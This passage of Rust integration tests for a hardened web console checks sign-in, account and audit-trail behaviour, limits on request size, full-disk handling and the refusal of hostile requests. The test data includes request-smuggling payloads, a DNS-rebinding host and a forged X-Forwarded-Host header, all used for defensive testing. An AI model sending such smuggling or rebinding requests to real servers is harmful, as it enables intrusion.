            ("csrf", &csrf),
            ("current", "not the password"),
            ("password", NEW),
            ("code", &codes[1]),
        ],
    );
    assert_eq!(status, 400, "{body}");
    let (status, headers, body) = server.curl(
        "POST",
        "/account/password",
        &[
            ("csrf", &csrf),
            ("current", PASSWORD),
            ("password", NEW),
            ("code", &codes[2]),
        ],
    );
    assert_eq!(status, 303, "{headers}{body}");
    assert!(
        headers.contains("set-cookie: __Host-pacsguard="),
        "{headers}"
    );
    assert_eq!(server.curl("GET", "/", &[]).0, 200, "this browser goes on");
    let (status, headers, _) = server.curl_as(&other, "GET", "/", &[]);
    assert_eq!(status, 303, "the other browser's session ended: {headers}");
    assert!(headers.contains("location: /login"), "{headers}");
    let (status, _, _) = server.curl_as(
        &other,
        "POST",
        "/login",
        &[
            ("name", "admin"),
            ("password", PASSWORD),
            ("code", &codes[3]),
        ],
    );
    assert_eq!(status, 401, "the old password signs in no more");

    // A second person, then disabled: a step-up (a fresh TOTP step) and a reason.
    let (_, _, page) = server.curl("GET", "/", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[
            ("csrf", &csrf),
            ("code", &next_step_code(&secret)),
            ("next", "/accounts"),
        ],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/accounts", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    const BOB: &str = "copper kettle under winter rain";
    let (status, _, body) = server.curl(
        "POST",
        "/accounts",
        &[
            ("csrf", &csrf),
            ("name", "bob"),
            ("role", "viewer"),
            ("password", BOB),
            ("reason", "reading room"),
        ],
    );
    assert_eq!(status, 303, "{body}");
    let bob = env.dir.path().join("bob-browser.txt");
    let (status, _, _) = server.curl_as(
        &bob,
        "POST",
        "/login",
        &[("name", "bob"), ("password", BOB), ("code", "")],
    );
    assert_eq!(status, 303);
    assert_eq!(
        server.curl_as(&bob, "GET", "/enrol", &[]).0,
        200,
        "bob's session"
    );
    let (status, _, body) = server.curl(
        "POST",
        "/accounts/disable",
        &[
            ("csrf", &csrf),
            ("name", "bob"),
            ("reason", "left the hospital"),
        ],
    );
    assert_eq!(status, 303, "{body}");
    let (status, headers, _) = server.curl_as(&bob, "GET", "/enrol", &[]);
    assert!(
        status == 303 && headers.contains("location: /login"),
        "bob's session ended at once: {status} {headers}"
    );
    let (status, _, right) = server.curl_as(
        &bob,
        "POST",
        "/login",
        &[("name", "bob"), ("password", BOB), ("code", "")],
    );
    let (wrong_status, _, wrong) = server.curl_as(
        &bob,
        "POST",
        "/login",
        &[
            ("name", "bob"),
            ("password", "not bob's password"),
            ("code", ""),
        ],
    );
    assert_eq!((status, &right), (wrong_status, &wrong), "the one answer");
    assert_eq!(status, 401);
    assert_eq!(server.stop(), 0);

    let shown = env.run(&["audit", "show", "--action", "account", "--json"]);
    let text = stdout(&shown);
    assert!(text.contains("admin changed their password"), "{text}");
    assert!(
        text.contains("admin disabled the account bob") && text.contains("left the hospital"),
        "{text}"
    );
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
}

/// Review r24-console: a request whose head was over-long (hyper's ~400 KiB buffer)
/// had its connection closed and nothing said on the service's log. The head is bounded
/// by MAX_REQUEST_HEAD_BYTES now, answered 431, and the refusal is on the log with the
/// client's address; the console serves the next request.
#[test]
fn an_over_long_request_head_is_refused_with_431_and_said_on_the_log() {
    use pacsguard_console::server::MAX_REQUEST_HEAD_BYTES;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let long = format!("X-Padding: {}", "a".repeat(MAX_REQUEST_HEAD_BYTES + 1));
    let out = Command::new("curl")
        .args(["-sS", "--cacert"])
        .arg(&server.cacert)
        .args(["-o", "/dev/null", "-w", "%{http_code}", "-H", &long])
        .arg(format!("{}/login", server.base))
        .output()
        .expect("curl runs");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "431",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        server.wait_for("MAX_REQUEST_HEAD_BYTES", Duration::from_secs(5)),
        "{}",
        server.stderr()
    );
    assert!(
        server.stderr().contains("refused a request from 127.0.0.1"),
        "{}",
        server.stderr()
    );
    assert_eq!(server.curl("GET", "/login", &[]).0, 200);
    server.stop();
}

/// Review r26-console: a request line over MAX_REQUEST_HEAD_BYTES was answered 431
/// (its headers too large) by the head's limit before hyper could say 414, and a target
/// of tens of KiB was served. A request target over MAX_REQUEST_TARGET_BYTES is answered
/// 414 URI Too Long, whether the head fits MAX_REQUEST_HEAD_BYTES or not, and said on
/// the log; over-long headers stay 431; the console serves the next request.
#[test]
fn an_over_long_request_line_is_414_and_over_long_headers_431() {
    use pacsguard_console::server::{MAX_REQUEST_HEAD_BYTES, MAX_REQUEST_TARGET_BYTES};
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let status = |path: &str, header: Option<&str>| {
        let mut command = Command::new("curl");
        command.args(["-sS", "--cacert"]).arg(&server.cacert).args([
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ]);
        if let Some(header) = header {
            command.args(["-H", header]);
        }
        let out = command
            .arg(format!("{}{path}", server.base))
            .output()
            .expect("curl runs");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let query = |bytes: usize| format!("/login?q={}", "a".repeat(bytes));
    // At the limit: served.
    assert_eq!(
        status(&query(MAX_REQUEST_TARGET_BYTES - "/login?q=".len()), None),
        "200"
    );
    for over in [
        MAX_REQUEST_TARGET_BYTES,
        MAX_REQUEST_HEAD_BYTES / 2,
        MAX_REQUEST_HEAD_BYTES + 1,
    ] {
        assert_eq!(
            status(&query(over), None),
            "414",
            "a target of {over} bytes"
        );
    }
    assert!(
        server.wait_for("MAX_REQUEST_TARGET_BYTES", Duration::from_secs(5)),
        "{}",
        server.stderr()
    );
    let long = format!("X-Padding: {}", "a".repeat(MAX_REQUEST_HEAD_BYTES + 1));
    assert_eq!(status("/login", Some(&long)), "431");
    assert_eq!(server.curl("GET", "/login", &[]).0, 200);
    server.stop();
}

/// Review r27-console: only a connection's first request line was read before hyper, so
/// on a kept-alive connection a later request line over MAX_REQUEST_HEAD_BYTES was
/// answered 431 (headers too large), and that first 414 lacked the headers of every
/// other answer (HSTS, CSP). Every request of a connection is judged the same now:
/// curl sends a page, then the long line on the same connection, and gets 414 with
/// the security headers; the console serves the next connection.
#[test]
fn a_long_request_line_later_on_a_kept_alive_connection_is_414_too() {
    use pacsguard_console::server::MAX_REQUEST_HEAD_BYTES;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let long = format!(
        "{}/login?q={}",
        server.base,
        "a".repeat(MAX_REQUEST_HEAD_BYTES + 1)
    );
    let heads = env.home.join("heads.txt");
    let out = Command::new("curl")
        .args(["-sS", "--cacert"])
        .arg(&server.cacert)
        .args(["-D"])
        .arg(&heads)
        .args(["-o", "/dev/null", "-w", "%{http_code} %{num_connects}\n"])
        .arg(format!("{}/login", server.base))
        .args(["-o", "/dev/null"])
        .arg(&long)
        .output()
        .expect("curl runs");
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        said.lines().collect::<Vec<_>>(),
        ["200 1", "414 0"],
        "the second on the first's connection: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let heads = std::fs::read_to_string(&heads)
        .expect("heads")
        .to_ascii_lowercase();
    let second = heads.rsplit("http/1.1 ").next().expect("the 414's head");
    assert!(second.starts_with("414"), "{heads}");
    for needed in [
        "strict-transport-security: max-age=",
        "content-security-policy: ",
        "x-content-type-options: nosniff",
        "x-frame-options: deny",
    ] {
        assert!(second.contains(needed), "{needed}: {second}");
    }
    assert!(
        server.wait_for("answered 414", Duration::from_secs(5)),
        "{}",
        server.stderr()
    );
    assert_eq!(server.curl("GET", "/login", &[]).0, 200);
    server.stop();
}

/// Review r28-console: the keep-alive 414 in a real browser (Debian's Chromium driven by
/// `tests/browser/long_address.cjs`): the sign-in page, then an address whose request
/// line is past the head's limit on the same kept-alive connection (CDP names the
/// connection), answered 414 "Address too long" with every answer's headers, shown by
/// the browser, and the console serves the next page. Photographed into
/// `target/tmp/browser-screenshots/long-address-*.png`.
#[test]
fn a_long_address_after_a_page_on_a_browsers_kept_alive_connection_is_414() {
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let node_modules = workspace.join(".testdata/node/node_modules");
    assert!(
        node_modules.join("playwright-core").is_dir() && Path::new("/usr/bin/chromium").exists(),
        "the browser tests need chromium and playwright-core: run scripts/setup-test-deps.sh"
    );
    let shots = Path::new(env!("CARGO_TARGET_TMPDIR")).join("browser-screenshots");
    std::fs::create_dir_all(&shots).expect("screenshot directory");
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let out = Command::new("node")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/long_address.cjs"))
        .env("BASE", &server.base)
        .env("SHOTS", &shots)
        .env(
            "TARGET_BYTES",
            (pacsguard_console::server::MAX_REQUEST_HEAD_BYTES + 1).to_string(),
        )
        .env("NODE_PATH", &node_modules)
        .output()
        .expect("node runs");
    assert!(
        out.status.success(),
        "{}{}\nscreenshots in {}\nserve: {}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
        shots.display(),
        server.stderr()
    );
    assert!(shots.join("long-address-02-address-too-long.png").is_file());
    assert!(
        server.wait_for("answered 414", Duration::from_secs(5)),
        "{}",
        server.stderr()
    );
    server.stop();
}

/// Review r24-console: the console answered to any host name. A page at a name an
/// attacker makes resolve to the console (DNS rebinding) is same-origin with it in the
/// victim's browser, and could drive the sign-in from inside the hospital's network.
/// A request naming another host than the console's names (its origin's, this host's,
/// `localhost` on loopback, `[console] allowed_hosts`) or an IP address is answered 421
/// and said on the log.
#[test]
fn a_request_for_a_host_name_the_console_does_not_answer_to_is_refused() {
    let env = Env::new();
    env.profile(&[]);
    let path = env.home.join("config.toml");
    let mut text = std::fs::read_to_string(&path).expect("config");
    text.push_str("\n[console]\nallowed_hosts = [\"PACS-Console.example\"]\n");
    std::fs::write(&path, text).expect("config");
    let server = Server::start(&env, &[]);
    let port = server.base.rsplit(':').next().expect("port").to_string();
    // curl resolving NAME to the console, as a rebound name would.
    let status_for = |name: &str| {
        let out = Command::new("curl")
            .args([
                "-sS",
                "-k",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "--resolve",
            ])
            .arg(format!("{name}:{port}:127.0.0.1"))
            .arg(format!("https://{name}:{port}/login"))
            .output()
            .expect("curl runs");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    assert_eq!(status_for("rebind.attacker.example"), "421");
    assert!(
        server.wait_for("rebind.attacker.example", Duration::from_secs(5)),
        "{}",
        server.stderr()
    );
    assert_eq!(status_for("localhost"), "200");
    assert_eq!(
        status_for("pacs-console.example"),
        "200",
        "a configured alias"
    );
    assert_eq!(server.curl("GET", "/login", &[]).0, 200, "its IP address");
    // Review r25-console: a proxy's X-Forwarded-Host is ignored (the console trusts no
    // proxy) and said on the log, never followed.
    let out = Command::new("curl")
        .args(["-sS", "-k", "-o", "/dev/null", "-w", "%{http_code}", "-H"])
        .arg("X-Forwarded-Host: forwarded.attacker.example")
        .arg(format!("{}/login", server.base))
        .output()
        .expect("curl runs");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "200");
    assert!(
        server.wait_for(
            "refused to follow the x-forwarded-host header (\"forwarded.attacker.example\") of a request from 127.0.0.1: this console trusts no proxy",
            Duration::from_secs(5)
        ),
        "{}",
        server.stderr()
    );
    server.stop();
}

/// Review r24-console: a client that starts a request and never finishes its headers
/// was cut at HEADER_TIMEOUT with nothing said on the service's log (a slow-loris peer
/// was invisible). The cut is said now, with the client's address.
#[test]
fn headers_not_sent_within_the_header_timeout_are_said_on_the_log() {
    use pacsguard_console::server::HEADER_TIMEOUT;
    use std::io::Write as _;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let address = server.base.trim_start_matches("https://").to_string();
    let mut client = Command::new("openssl")
        .args(["s_client", "-quiet", "-connect", &address])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("openssl runs");
    let mut stdin = client.stdin.take().expect("stdin");
    stdin
        .write_all(format!("GET /login HTTP/1.1\r\nHost: {address}\r\nX-Slow: ").as_bytes())
        .expect("a request begun");
    stdin.flush().expect("sent");
    let said = server.wait_for(
        "its headers did not arrive within HEADER_TIMEOUT",
        HEADER_TIMEOUT + Duration::from_secs(10),
    );
    drop(stdin);
    let _ = client.kill();
    let _ = client.wait();
    assert!(said, "{}", server.stderr());
    assert!(
        server.stderr().contains("refused a request from 127.0.0.1"),
        "{}",
        server.stderr()
    );
    server.stop();
}

/// Review r28-console: with the home's disk full, every request that needs the console's
/// store written (a failed sign-in's count, a session's renewal, a step-up, a decision,
/// an invitation, a sign-out) was answered 500 "Error", as if the console were broken.
/// Each is answered 503 "Not recorded" with nothing done: the session stays, the
/// recovery code tried is not spent, the difference is not accepted. Once there is room
/// again the same requests succeed, and the trail (held while the disk was full) verifies
/// and names only what was done. The home is on a real small file system (a tmpfs),
/// filled by a file; root only.
#[test]
fn a_full_disk_is_answered_503_with_nothing_done_and_the_console_comes_back_with_room() {
    if !common::is_root() {
        eprintln!("skipped: mounting a small file system for the home needs root");
        return;
    }
    let env = Env::new();
    env.profile(&[]);
    let disk = home_on_a_small_disk(&env);
    let server = Server::start(&env, &[]);
    let (secret, codes) = first_admin_with_codes(&server);
    std::fs::write(env.path("readme.txt"), b"vendor patch 8 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&body, "name=\"seen\" value=\"", '"');
    let root = env.tree_str().to_string();
    let accept = |csrf: &str, seen: &str| {
        server.curl(
            "POST",
            "/differences/accept",
            &[
                ("csrf", csrf),
                ("root", &root),
                ("reason", "vendor patch 8"),
                ("seen", seen),
            ],
        )
    };
    let other = env.dir.path().join("other-browser.txt");
    let sign_in = |name: &str, password: &str, code: &str| {
        server.curl_as(
            &other,
            "POST",
            "/login",
            &[("name", name), ("password", password), ("code", code)],
        )
    };

    let filler = disk.fill();
    let answers = [
        (
            "a wrong password",
            sign_in("admin", "not the password of anyone here", "000000"),
        ),
        (
            "an unknown name",
            sign_in("nobody", "not the password of anyone here", "000000"),
        ),
        ("the right sign-in", sign_in("admin", PASSWORD, &codes[0])),
        (
            "a step-up",
            server.curl("POST", "/step-up", &[("csrf", &csrf), ("code", &codes[1])]),
        ),
        ("an acceptance", accept(&csrf, &seen)),
        (
            "an invitation",
            server.curl(
                "POST",
                "/accounts/invite",
                &[
                    ("csrf", &csrf),
                    ("name", "bob"),
                    ("role", "viewer"),
                    ("reason", "a new colleague"),
                ],
            ),
        ),
        (
            "a sign-out",
            server.curl("POST", "/logout", &[("csrf", &csrf)]),
        ),
    ];
    for (what, (status, _, body)) in &answers {
        assert_eq!(*status, 503, "{what}: {body}");
        assert!(body.contains("Not recorded"), "{what}: {body}");
    }
    // A page read: shown when the session's renewal need not be written, else the same.
    let (status, _, body) = server.curl("GET", "/", &[]);
    assert!(
        status == 200 || (status == 503 && body.contains("Not recorded")),
        "{status}: {body}"
    );
    assert!(
        server.wait_for(
            "the console's store cannot be used now",
            Duration::from_secs(5)
        ),
        "said on the log: {}",
        server.stderr()
    );

    // Room again: nothing of the above was done, and all of it can be.
    std::fs::remove_file(&filler).expect("room again");
    let (status, _, body) = server.curl("GET", "/differences", &[]);
    assert_eq!(status, 200, "the session is as it was: {body}");
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&body, "name=\"seen\" value=\"", '"');
    // The guard writes the records it held first (TRAIL_RETRY_INTERVAL), refusing
    // acceptances 503 until it has.
    let deadline = Instant::now() + Duration::from_secs(30);
    let body = loop {
        let (status, _, body) = accept(&csrf, &seen);
        if status == 200 {
            break body;
        }
        assert_eq!(status, 503, "{body}");
        assert!(Instant::now() < deadline, "{body}");
        std::thread::sleep(Duration::from_millis(500));
    };
    assert!(body.contains("1 difference(s)"), "{body}");
    let (status, headers, body) = sign_in("admin", PASSWORD, &codes[0]);
    assert_eq!(
        status, 303,
        "the recovery code was not spent: {headers}{body}"
    );
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
    let shown = stdout(&env.run(&["audit", "show"]));
    assert_eq!(shown.matches("admin signed in").count(), 1, "{shown}");
    assert_eq!(
        shown.matches("differences accepted into baseline").count(),
        1,
        "{shown}"
    );
    drop(disk);
}

/// The home of `env`, initialised and profiled, moved onto a small file system of its
/// own (a tmpfs of 32 MiB) that the test can fill; root only.
fn home_on_a_small_disk(env: &Env) -> SmallDisk {
    let kept = env.dir.path().join("home-made");
    std::fs::rename(&env.home, &kept).expect("move the home aside");
    let disk = SmallDisk::mount(&env.home, "32m");
    let copied = Command::new("cp")
        .arg("-a")
        .arg(kept.join("."))
        .arg(&env.home)
        .status()
        .expect("cp runs");
    assert!(copied.success());
    disk
}

/// Review r29-console, issue 13: with the home's disk full every page of the console
/// was answered 503 "Not recorded", reading included: each request renewed its
/// session's last use (and the seal over it) in the store before anything else, and a
/// refused write refused the request. The people who must see what is happening on the
/// night the disk fills saw nothing. A request that only reads is now served without
/// the renewal (the idle limit then counts from the last renewal the store kept: the
/// session ends sooner, never later); a change is still refused, 503.
#[test]
fn pages_that_only_read_are_served_while_the_disk_is_full() {
    if !common::is_root() {
        eprintln!("skipped: mounting a small file system for the home needs root");
        return;
    }
    let env = Env::new();
    env.profile(&[]);
    let disk = home_on_a_small_disk(&env);
    let server = Server::start(&env, &[]);
    let (secret, _) = first_admin_with_codes(&server);
    let (_, _, page) = server.curl("GET", "/", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let filler = disk.fill();
    // A sign-in from a second browser: refused (its session cannot be written).
    let other = env.dir.path().join("second-browser.txt");
    let (status, _, body) = server.curl_as(
        &other,
        "POST",
        "/login",
        &[
            ("name", "admin"),
            ("password", PASSWORD),
            ("code", &next_step_code(&secret)),
        ],
    );
    assert_eq!(status, 503, "a sign-in on a full disk: {body}");
    // Enough requests that the store's journal would have to grow past what it holds.
    for round in 0..40 {
        for page in ["/", "/alerts", "/differences", "/trail", "/accounts"] {
            let (status, _, body) = server.curl("GET", page, &[]);
            assert_eq!(status, 200, "{page} (round {round}) on a full disk: {body}");
        }
    }
    let (status, _, body) = server.curl("POST", "/step-up", &[("csrf", &csrf), ("code", "000000")]);
    assert_eq!(status, 503, "a change on a full disk: {body}");
    std::fs::remove_file(&filler).expect("room again");
    let (status, _, body) = server.curl("GET", "/", &[]);
    assert_eq!(status, 200, "{body}");
    let (stopped, log) = server.stop_said();
    assert!(
        stopped == 0 || stopped == 1,
        "serve stopped with {stopped}: {log}"
    );
}

/// Review r30-console, issue 13: an enrolment link edited in the store (its expiry pushed
/// back) is refused and removed with a `console-invitation-altered` alert; on a real full
/// disk the removal fails, the link is refused at each load of its page (no sign-in
/// needed), and each load raised the alert again. Five loads on a full disk now raise one
/// alert (`UNDO_REFUSED_ALERT_INTERVAL`) saying the link could not be removed; with room
/// again the next load removes it, with the alert saying so, and the verified trail holds
/// each once. The home is on a real small file system (a tmpfs), filled; root only.
#[test]
fn a_link_edited_in_the_store_on_a_full_disk_is_alerted_once_and_removed_with_room() {
    if !common::is_root() {
        eprintln!("skipped: mounting a small file system for the home needs root");
        return;
    }
    let env = Env::new();
    env.profile(&[]);
    let disk = home_on_a_small_disk(&env);
    let server = Server::start(&env, &[]);
    let (secret, _) = first_admin_with_codes(&server);
    let (_, _, page) = server.curl("GET", "/", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/accounts", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let (status, _, body) = server.curl(
        "POST",
        "/accounts/invite",
        &[
            ("csrf", &csrf),
            ("name", "dave"),
            ("role", "viewer"),
            ("reason", "a new colleague"),
        ],
    );
    assert_eq!(status, 200, "{body}");
    let token = value_of(&body, "welcome?token=", '<');
    let store = env.home.join("pacsguard.db");
    let sqlite = |statement: &str| {
        let out = Command::new("sqlite3")
            .arg(&store)
            .arg(statement)
            .output()
            .expect("sqlite3 runs");
        assert!(out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    sqlite("UPDATE console_invitations SET expires = expires + 60");
    let links = || sqlite("SELECT count(*) FROM console_invitations");
    let welcome = format!("/welcome?token={token}");

    let filler = disk.fill();
    for load in 0..5 {
        let (status, _, body) = server.curl("GET", &welcome, &[]);
        assert_eq!(status, 403, "load {load} on a full disk: {body}");
    }
    std::fs::remove_file(&filler).expect("room again");
    assert_eq!(links(), "1", "the full disk kept the link");
    let (status, _, body) = server.curl("GET", &welcome, &[]);
    assert_eq!(status, 403, "{body}");
    assert_eq!(links(), "0", "removed with room again");
    server.stop();
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
    let shown = stdout(&env.run(&["audit", "show"]));
    assert_eq!(
        shown
            .matches("the link was refused and could not be removed")
            .count(),
        1,
        "one alert for five loads: {shown}"
    );
    assert_eq!(
        shown.matches("the link was refused and removed").count(),
        1,
        "{shown}"
    );
    drop(disk);
}

/// Review r28-console2, issue 13: a console action queued its record of success for the
/// trail before the store's transaction committed, so when a later write or the commit
/// failed (a full disk) the change was rolled back and answered 503 while the trail kept
/// "admin invited carol ...": the trail said a change was made that the store never
/// held. An invitation, a role change and a password change on a real full disk are each
/// answered 503; once there is room, the verified trail names none of them, and at the
/// next start of the console every account is as the trail recorded it (both sign in, no
/// alert of an altered account), carol does not exist and bob is still a viewer.
#[test]
fn changes_refused_by_a_full_disk_are_not_on_the_trail_and_the_accounts_stay_bound() {
    if !common::is_root() {
        eprintln!("skipped: mounting a small file system for the home needs root");
        return;
    }
    let env = Env::new();
    env.profile(&[]);
    let disk = home_on_a_small_disk(&env);
    let server = Server::start(&env, &[]);
    let (secret, codes) = first_admin_with_codes(&server);
    let (_, _, page) = server.curl("GET", "/", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/accounts", &[]);
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    const BOB: &str = "copper kettle under winter rain";
    let (status, _, body) = server.curl(
        "POST",
        "/accounts",
        &[
            ("csrf", &csrf),
            ("name", "bob"),
            ("role", "viewer"),
            ("password", BOB),
            ("reason", "reading room"),
        ],
    );
    assert_eq!(status, 303, "{body}");

    let filler = disk.fill();
    let answers = [
        (
            "an invitation",
            server.curl(
                "POST",
                "/accounts/invite",
                &[
                    ("csrf", &csrf),
                    ("name", "carol"),
                    ("role", "administrator"),
                    ("reason", "a new colleague"),
                ],
            ),
        ),
        (
            "a role change",
            server.curl(
                "POST",
                "/accounts/role",
                &[
                    ("csrf", &csrf),
                    ("name", "bob"),
                    ("role", "approver"),
                    ("reason", "night shift"),
                ],
            ),
        ),
        (
            "a password change",
            server.curl(
                "POST",
                "/account/password",
                &[
                    ("csrf", &csrf),
                    ("current", PASSWORD),
                    ("password", "seven herons above the estuary"),
                    // The step-up above confirms it: no code spent before the hold.
                    ("code", ""),
                ],
            ),
        ),
    ];
    for (what, (status, _, body)) in &answers {
        assert_eq!(*status, 503, "{what}: {body}");
    }
    std::fs::remove_file(&filler).expect("room again");
    // Stopped with room: the guard writes every record it held. Its status is 1 when it
    // raised the alert of a trail it could not write while the disk was full.
    let (stopped, log) = server.stop_said();
    assert!(
        stopped == 0 || stopped == 1,
        "serve stopped with {stopped}: {log}"
    );
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
    let shown = stdout(&env.run(&["audit", "show"]));
    for never_made in [
        "invited carol",
        "account carol",
        "changed the role of bob",
        "given the role approver",
        "admin changed their password",
    ] {
        assert!(
            !shown.contains(never_made),
            "the trail says '{never_made}', a change the store does not hold: {shown}"
        );
    }

    // The next start: the store and the trail agree on every account.
    let server = Server::start(&env, &[]);
    let (status, headers, body) = server.curl(
        "POST",
        "/login",
        &[
            ("name", "admin"),
            ("password", PASSWORD),
            ("code", &codes[0]),
        ],
    );
    assert_eq!(
        status, 303,
        "admin's password and recovery code are unchanged: {headers}{body}"
    );
    let bob = env.dir.path().join("bob-browser.txt");
    let (status, headers, body) = server.curl_as(
        &bob,
        "POST",
        "/login",
        &[("name", "bob"), ("password", BOB), ("code", "")],
    );
    assert_eq!(status, 303, "bob is as recorded: {headers}{body}");
    let (_, _, page) = server.curl("GET", "/accounts", &[]);
    assert!(!page.contains("carol"), "{page}");
    assert_eq!(server.stop(), 0);
    let shown = stdout(&env.run(&["audit", "show"]));
    assert!(
        !shown.contains("not as the audit trail recorded")
            && !shown.contains("differs from what the trail recorded"),
        "{shown}"
    );
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
    drop(disk);
}

/// Sends `request` as it is over one TLS connection to `server` (python3's ssl: curl
/// sends only well-formed requests) and gives back everything answered until the
/// console closes the connection.
fn raw_exchange(server: &Server, request: &[u8]) -> String {
    use std::io::Write as _;
    const CLIENT: &str = r#"
import socket, ssl, sys
host, port = sys.argv[1].rsplit(":", 1)
ctx = ssl.create_default_context(cafile=sys.argv[2])
ctx.check_hostname = False
tls = ctx.wrap_socket(socket.create_connection((host, int(port))), server_hostname="localhost")
try:
    tls.sendall(sys.stdin.buffer.read())
except OSError:
    pass
tls.settimeout(20)
out = b""
try:
    while True:
        got = tls.recv(65536)
        if not got:
            break
        out += got
except OSError:
    pass
sys.stdout.buffer.write(out)
"#;
    let mut child = Command::new("python3")
        .args(["-c", CLIENT, server.base.trim_start_matches("https://")])
        .arg(&server.cacert)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 runs");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(request)
        .expect("request written");
    let out = child.wait_with_output().expect("python3 ends");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The statuses of the answers in `answers`, in order.
fn statuses(answers: &str) -> Vec<&str> {
    answers
        .match_indices("HTTP/1.1 ")
        .filter_map(|(at, _)| answers.get(at + 9..at + 12))
        .collect()
}

/// Review r28-console, request smuggling shapes on one kept-alive connection: the
/// console followed a request's framing by rules of its own beside hyper's, and where it
/// could not follow it (two `Transfer-Encoding` headers, `gzip` then `chunked`, which
/// hyper serves) it stopped judging in silence, so an over-long request line after it
/// was hyper's bare 431 (seen: 401 then 431). It now follows hyper's rules, and framing
/// hyper refuses ends the connection with the console's answer (every answer's headers)
/// and a line on the log.
#[test]
fn smuggling_shapes_on_one_connection_are_followed_or_refused_and_said() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let host = "Host: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n";
    let long = format!(
        "GET /login?q={} HTTP/1.1\r\n{host}\r\n",
        "a".repeat(pacsguard_console::server::MAX_REQUEST_HEAD_BYTES + 1)
    );
    let two_codings = format!(
        "POST /login HTTP/1.1\r\n{host}Transfer-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{long}"
    );
    let answers = raw_exchange(&server, two_codings.as_bytes());
    assert_eq!(statuses(&answers), ["401", "414"], "{answers}");
    let signed_length = format!(
        "POST /login HTTP/1.1\r\n{host}Content-Length: +4\r\n\r\nabcdGET /login HTTP/1.1\r\n{host}\r\n"
    );
    let answers = raw_exchange(&server, signed_length.as_bytes());
    assert_eq!(statuses(&answers), ["400"], "{answers}");
    assert!(
        answers.contains("content-security-policy: "),
        "the console's answer: {answers}"
    );
    assert!(
        server.wait_for("its body's length cannot be told", Duration::from_secs(5)),
        "{}",
        server.stderr()
    );
    // Refused by hyper, answered once: chunk extensions past its bound, a head past it.
    let extensions = format!(
        "POST /login HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n4;{}\r\nabcd\r\n0\r\n\r\n{long}",
        "e".repeat(pacsguard_console::request_line::MAX_CHUNK_EXTENSION_BYTES)
    );
    let answers = raw_exchange(&server, extensions.as_bytes());
    assert_eq!(statuses(&answers), ["400"], "{answers}");
    let large_head = format!(
        "GET /login HTTP/1.1\r\n{host}\r\nGET /login HTTP/1.1\r\n{host}X: {}\r\n\r\n",
        "b".repeat(pacsguard_console::server::MAX_REQUEST_HEAD_BYTES)
    );
    let answers = raw_exchange(&server, large_head.as_bytes());
